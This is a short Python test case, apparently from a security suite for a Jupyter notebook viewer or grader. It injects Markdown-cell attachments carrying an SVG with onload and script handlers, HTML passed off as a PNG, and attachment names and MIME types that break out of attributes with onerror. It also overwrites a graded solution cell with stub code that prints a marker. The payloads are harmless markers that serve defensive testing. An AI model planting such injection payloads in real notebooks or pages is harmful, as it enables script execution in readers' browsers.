# what: Attachments of Markdown cells: an SVG with a script, HTML as a picture, names and types that break out.
# gains: reader
# where: notebook
# fires: stdout text `FIRED attachments`
# stock: succeeds

import pathlib


def solution(nb, name="conv_single_step"):
    return next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def spoil(nb: dict, folder: pathlib.Path) -> None:
    import base64

    run = "window.ATTACK_RAN='attachments'"
    svg = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'.encode()).decode()
    nb["cells"].append(
        {"cell_type": "markdown", "id": "att", "metadata": {}, "source": '![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:c" onerror="x)',
         "attachments": {"a.svg": {"image/svg+xml": svg}, "b.png": {"text/html": svg}, 'c" onerror="x': {f'image/png" onerror="{run}': f'" onerror="{run}'}}}
    )
    solution(nb)["source"] = 'print("FIRED attachments", flush=True)\n\n\ndef conv_single_step(a_slice_prev, W, b):\n    return 0.0\n'
